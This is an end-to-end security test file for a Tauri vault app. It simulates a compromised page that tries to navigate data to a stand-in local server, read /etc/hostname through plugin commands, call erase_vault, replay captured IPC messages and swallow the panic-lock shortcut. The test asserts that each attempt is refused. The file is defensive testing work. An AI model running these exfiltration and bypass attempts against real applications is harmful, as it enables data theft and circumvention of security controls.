// Attacks on the shell from the page, in the real window: a compromised page tries to
// navigate the window (or a new one) off the app to carry data away, tries to keep the
// panic shortcut from locking, tries to change the passphrase or make a recovery key
// without knowing the passphrase, and sends the shell messages outside Kua's own commands
// (Tauri's isolation frame and the shell's screen behind it).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { click, createVault, el, openApp, realKeys, startDriver, stopDriver, type, waitText, work, type Browser } from "./harness";

const PASS = "security test passphrase 7";
const NEW_PASS = "a second passphrase for the vault";
const home = join(work, "security");

// A server on this machine stands in for the adversary's: a navigation the window
// allowed would reach it.
let server: Server;
let port = 0;
const requests: string[] = [];

async function nav(b: Browser, name: string): Promise<void> {
  await click(b, `button[data-nav=${name}]`);
}

describe("the shell against a compromised page", () => {
  let b: Browser;

  beforeAll(async () => {
    server = createServer((req, res) => {
      requests.push(req.url ?? "");
      res.end("<p>exfiltrated</p>");
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    port = (server.address() as AddressInfo).port;
    await startDriver();
    b = await openApp(home);
    await createVault(b, PASS);
  });

  afterAll(async () => {
    await b?.deleteSession();
    stopDriver();
    server?.close();
  });

  it("keeps the window on the app when the page navigates away or opens a window", async () => {
    const origin = await b.getUrl();
    expect(origin).toMatch(/^tauri:\/\/localhost/);
    // A marker in this document: it survives only if the document is never replaced.
    await b.execute(() => {
      (window as unknown as { __stay?: number }).__stay = 7;
    });
    const target = `http://127.0.0.1:${port}/x?secret=Канарейка`;
    await b.execute((url: string) => {
      location.href = url;
    }, target);
    await b.execute((url: string) => {
      window.open(url, "_blank");
    }, `${target}&via=open`);
    await b.execute((url: string) => {
      const a = document.createElement("a");
      a.href = url;
      a.target = "_top";
      document.body.append(a);
      a.click();
      a.remove();
    }, `${target}&via=link`);
    // An allowed navigation would reach the local server within milliseconds; give it
    // ample time to show up, then check that nothing did.
    for (let i = 0; i < 20 && requests.length === 0; i++) await b.pause(100);
    expect(requests).toEqual([]);
    expect(await b.getUrl()).toBe(origin);
    expect(await b.getWindowHandles()).toHaveLength(1);
    expect(await b.execute(() => (window as unknown as { __stay?: number }).__stay)).toBe(7);
    // The app still works.
    await nav(b, "settings");
    await el(b, "#current-pass");
  });

  it("lets only Kua's own commands, with their own arguments, through the isolation frame", async () => {
    const outcomes = (await b.executeAsync((done: (r: unknown) => void) => {
      type Internals = {
        invoke: (cmd: string, args?: unknown) => Promise<unknown>;
        transformCallback: (f: (r: unknown) => void, once: boolean) => number;
        postMessage: (m: unknown) => void;
      };
      const internals = (window as unknown as { __TAURI_INTERNALS__: Internals }).__TAURI_INTERNALS__;
      const code = (e: unknown) => (e && typeof e === "object" && "code" in e ? String(e.code) : `other: ${String(e)}`);
      const outcome = (p: Promise<unknown>) => p.then(() => "ran", code);
      // Around the frame: straight to Tauri's transport. An empty body (raw, or JSON
      // with no payload) is passed on without decrypting; `lock` takes no arguments, so
      // without the shell's screen it would run.
      const around = (cmd: string, payload: unknown, message: Record<string, unknown> = {}) =>
        new Promise((resolve) => {
          const ok = internals.transformCallback(() => resolve("ran"), true);
          const err = internals.transformCallback((e) => resolve(code(e)), true);
          internals.postMessage({ cmd, payload, options: {}, ...message, callback: ok, error: err });
        });
      // The frame's encrypted messages pass through this window: keep the one for
      // `list`, to send it again under another command's name.
      let captured: Record<string, unknown> | null = null;
      window.addEventListener("message", (e: MessageEvent) => {
        const m = e.data as Record<string, unknown> | null;
        if (m && typeof m === "object" && m.cmd === "list" && typeof m.payload === "object") captured = m;
      });
      void (async () => {
        const frame = document.querySelector("iframe#__tauri_isolation__");
        const out: unknown[] = [frame ? `frame ${getComputedStyle(frame).display} ${frame.getAttribute("sandbox")}` : "no frame"];
        out.push(await outcome(internals.invoke("plugin:fs|read_text_file", { path: "/etc/hostname" })));
        out.push(await outcome(internals.invoke("plugin:shell|open", { path: "http://127.0.0.1/" })));
        out.push(await outcome(internals.invoke("erase_vault", { confirm: "ERASE", path: "/" })));
        out.push(await outcome(internals.invoke("unlock", { passphrase: 7 })));
        out.push(await around("lock", new Uint8Array(0)));
        out.push(await around("lock", undefined));
        out.push(await outcome(internals.invoke("list", {})));
        out.push(captured ? await around("lock", undefined, { payload: (captured as Record<string, unknown>).payload }) : "nothing captured");
        // Tauri's own commands never reach the shell's screen: around the frame, only
        // the capability file (event listening alone) stands between them and the page.
        const dialog = String(await around("plugin:dialog|open", undefined));
        out.push(/not allowed/.test(dialog) ? "not allowed" : dialog);
        done(out);
      })();
    })) as unknown[];
    expect(outcomes).toEqual([
      "frame none allow-scripts",
      // Through the frame: a plugin's command, another, an extra argument, a wrong type.
      "ipc_refused", "ipc_refused", "ipc_refused", "ipc_refused",
      // Around it: an empty raw body, an empty JSON body.
      "ipc_refused", "ipc_refused",
      // A genuine call, then its ciphertext sent again as `lock`.
      "ran", "ipc_refused",
      "not allowed",
    ]);
    // Nothing was erased or locked: the vault is open and its screens work.
    await nav(b, "list");
    await el(b, "[data-testid=new-testimony]");
  });

  it("asks for the current passphrase before changing it", async () => {
    await nav(b, "settings");
    await type(b, "#current-pass", "not the passphrase");
    await type(b, "#change-pass", NEW_PASS);
    await type(b, "#change-pass-confirm", NEW_PASS);
    await click(b, "[data-testid=change-pass-submit]");
    await waitText(b, "[role=alert]", /does not open this vault/);
    // The old passphrase still opens the vault, the one the page chose does not.
    await type(b, "#current-pass", PASS);
    await type(b, "#change-pass", NEW_PASS);
    await type(b, "#change-pass-confirm", NEW_PASS);
    await click(b, "[data-testid=change-pass-submit]");
    await waitText(b, "[role=status]", /passphrase was changed/);
  });

  it("replaces the vault key and the recovery key only with the current passphrase", async () => {
    await nav(b, "settings");
    // A new recovery key needs the current passphrase too: an unlocked window left
    // alone must not hand out a way in.
    await type(b, "#recovery-current", PASS);
    await click(b, "[data-testid=new-recovery-submit]");
    await waitText(b, "[role=alert]", /does not open this vault/);
    await type(b, "#recovery-current", NEW_PASS);
    await click(b, "[data-testid=new-recovery-submit]");
    const first = await waitText(b, "[data-testid=recovery-key]", /^([A-Z2-7]{4}-){7}[A-Z2-7]{4}$/);
    await click(b, "[data-testid=new-recovery-key] button");
    // Rotation: the passphrase stays the same here; the vault key and the recovery key
    // change, and the new recovery key is shown once.
    await type(b, "#current-pass", NEW_PASS);
    await type(b, "#change-pass", NEW_PASS);
    await type(b, "#change-pass-confirm", NEW_PASS);
    await click(b, "[data-testid=rotate-key]");
    await click(b, "[data-testid=change-pass-submit]");
    await waitText(b, "[role=status]", /vault key were changed/);
    const second = await waitText(b, "[data-testid=recovery-key]", /^([A-Z2-7]{4}-){7}[A-Z2-7]{4}$/);
    expect(second).not.toBe(first);
    await click(b, "[data-testid=new-recovery-key] button");
  });

  it("locks on the panic shortcut even when the page tries to swallow it", async () => {
    await nav(b, "list");
    await el(b, "[data-testid=new-testimony]");
    // A page-level handler could be stopped like this; the shell's cannot.
    await b.execute(() => {
      for (const t of [window, document]) {
        t.addEventListener("keydown", (e) => {
          e.preventDefault();
          e.stopImmediatePropagation();
        }, { capture: true });
      }
    });
    await realKeys(b, ["Control_L", "Shift_L", "l"]);
    await el(b, "#passphrase");
    // The passphrase changed above is the one that opens it now.
    await type(b, "#passphrase", NEW_PASS);
    await click(b, "form button[type=submit]");
    await el(b, "[data-testid=new-testimony]");
  });
});
